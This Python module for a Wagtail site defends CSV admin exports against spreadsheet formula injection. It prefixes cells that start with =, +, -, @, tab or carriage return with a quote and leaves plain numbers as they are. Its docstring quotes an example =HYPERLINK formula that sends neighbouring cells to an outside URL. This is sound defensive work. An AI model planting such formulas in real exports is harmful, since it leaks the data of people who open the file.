"""CSV exports that a spreadsheet program opens as text, never as formulas.

Why: Excel and WPS run a CSV cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a
tab or carriage return) as a formula, so a notice titled
``=HYPERLINK("http://…"&A2,"点击查看")`` becomes a link that sends the neighbouring
cells away from whoever opens the site history. Wagtail turns such cells into text in
its XLSX exports but writes them into CSV as they are. As OWASP advises, such a cell is
prefixed with a single quote. A cell that is only a number (``-1250.00``) is left as it
is: it cannot hold a formula, and a negative amount stays a number one can add up.

Wagtail has no hook for its CSV writer, so each admin listing that exports is served by
a subclass with ``FormulaSafeCsvMixin``, in front of Wagtail's own URL: those whose rows
depend on the reader are in ``content_types.roles.admin_views``, the others here.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Any

from django.urls import URLPattern, path
from django.views.decorators.cache import never_cache
from wagtail.admin.auth import require_admin_access
from wagtail.admin.urls import display_custom_404
from wagtail.admin.views.reports.aging_pages import AgingPagesView
from wagtail.contrib.redirects.views import IndexView as RedirectsIndexView
from wagtail.utils.urlpatterns import decorate_urlpatterns

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?\d[\d,]*(?:\.\d+)?")


def escape_formula(value: Any) -> Any:
    """``value`` as a CSV cell that cannot start a formula; anything not text is kept."""
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_PREFIXES)
        and not _NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


class FormulaSafeCsvMixin:
    """For a view with Wagtail's ``SpreadsheetExportMixin``: its CSV cells are escaped."""

    def preprocess_field_value(self, field: str, value: Any, export_format: str) -> Any:
        value = super().preprocess_field_value(field, value, export_format)  # type: ignore[misc]
        return escape_formula(value) if export_format == "csv" else value


def listing_urls(route: str, view: Any) -> list[URLPattern]:
    """A Wagtail listing's URL and the URL of its results, as Wagtail routes them."""
    return [path(route, view.as_view()), path(f"{route}results/", view.as_view(results_only=True))]


def _as_wagtail_admin(view: Callable) -> Callable:
    return never_cache(display_custom_404(require_admin_access(view)))


def admin_urlpatterns(patterns: list[URLPattern]) -> list[URLPattern]:
    """``patterns`` guarded and uncached as Wagtail's admin URLs are."""
    return decorate_urlpatterns(patterns, _as_wagtail_admin)


class FormulaSafeAgingPagesView(FormulaSafeCsvMixin, AgingPagesView):
    pass


class FormulaSafeRedirectsIndexView(FormulaSafeCsvMixin, RedirectsIndexView):
    pass


# Under "admin/", in front of Wagtail's URLs.
urlpatterns = admin_urlpatterns(
    [
        *listing_urls("reports/aging-pages/", FormulaSafeAgingPagesView),
        *listing_urls("redirects/", FormulaSafeRedirectsIndexView),
    ]
)
